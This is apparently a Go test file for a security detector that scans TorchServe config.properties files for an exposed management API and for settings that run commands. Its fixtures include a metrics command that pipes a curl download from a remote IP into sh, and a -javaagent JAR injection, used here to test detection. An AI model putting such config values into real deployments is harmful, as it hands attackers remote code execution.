package torchserve_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/torchserve"
)

func TestProperties(t *testing.T) {
	var cases []detectortest.Case
	for _, c := range []struct {
		name, text string
		want       []string
	}{
		{"local", "inference_address=http://0.0.0.0:8080\nmanagement_address=http://127.0.0.1:8081\nallowed_urls=.*\nvmargs=-Xmx4g\n", nil},
		{"open with its guards", "management_address=http://0.0.0.0:8081\nallowed_urls=https://example.org/.*\n", nil},
		{"metrics", "model_store=/models\nsystem_metrics_cmd=ts/metrics/metric_collector.py --gpu 0\n", nil},
		{"commented out", "model_store=/models\n#management_address=http://0.0.0.0:8081\n ! management_address = http://0.0.0.0:8081\nallowed_urls=.*\n", nil},
		{"open to the machine by its name", "management_address=http://localhost:8081\nallowed_urls=.*\n", nil},
		{"open to the machine by version 6", "management_address=http://[::1]:8081\nallowed_urls=.*\n", nil},
		{"open to a socket", "management_address=unix:/tmp/ts.sock\nallowed_urls=.*\n", nil},
		{"where it is unless it is said", "model_store=/models\nallowed_urls=.*\n", nil},
		{"open before it was closed", "management_address=http://0.0.0.0:8081\nallowed_urls=.*\nmanagement_address=http://127.0.0.1:8081\n", nil},
		{"open in two ways", "management_address = http://0.0.0.0:8081\nallowed_urls = .*\ndisable_token_authorization=true\n", []string{"torchserve-config-open"}},
		{"open", "management_address=http://0.0.0.0:8081\nallowed_urls=.*\n", []string{"torchserve-config-open"}},
		{"open without tokens", "management_address=https://[::]:8081\ndisable_token_authorization=true\n", []string{"torchserve-config-open"}},
		{"command", "model_store=/models\nsystem_metrics_cmd=curl http://192.0.2.1/x | sh\n", []string{"torchserve-config-runs-command"}},
		{"agent", "model_store=/models\nvmargs=-Xmx4g -javaagent:/tmp/x.jar\n", []string{"torchserve-config-runs-command"}},
	} {
		cases = append(cases, detectortest.Case{Name: c.name, File: "config.properties", Data: []byte(c.text), Want: c.want,
			AnyPrefix: "text has no end that could be missing", Named: "TorchServe knows it by its name"})
	}
	detectortest.Run(t, torchserve.Properties, cases)
}

// TestLongProperties: comments in front do not hide what stands behind them.
func TestLongProperties(t *testing.T) {
	text := strings.Repeat("# a comment\n", 1<<17) + "model_store=/models\nvmargs=-javaagent:/tmp/x.jar\n"
	got := detectortest.Scan([]*detector.Detector{torchserve.Properties}, "config.properties", []byte(text))
	if ids := detectortest.RuleIDs(got); !slices.Equal(ids, []string{"torchserve-config-runs-command"}) {
		t.Errorf("got %v %s, want torchserve-config-runs-command", ids, got.Reason)
	}
}
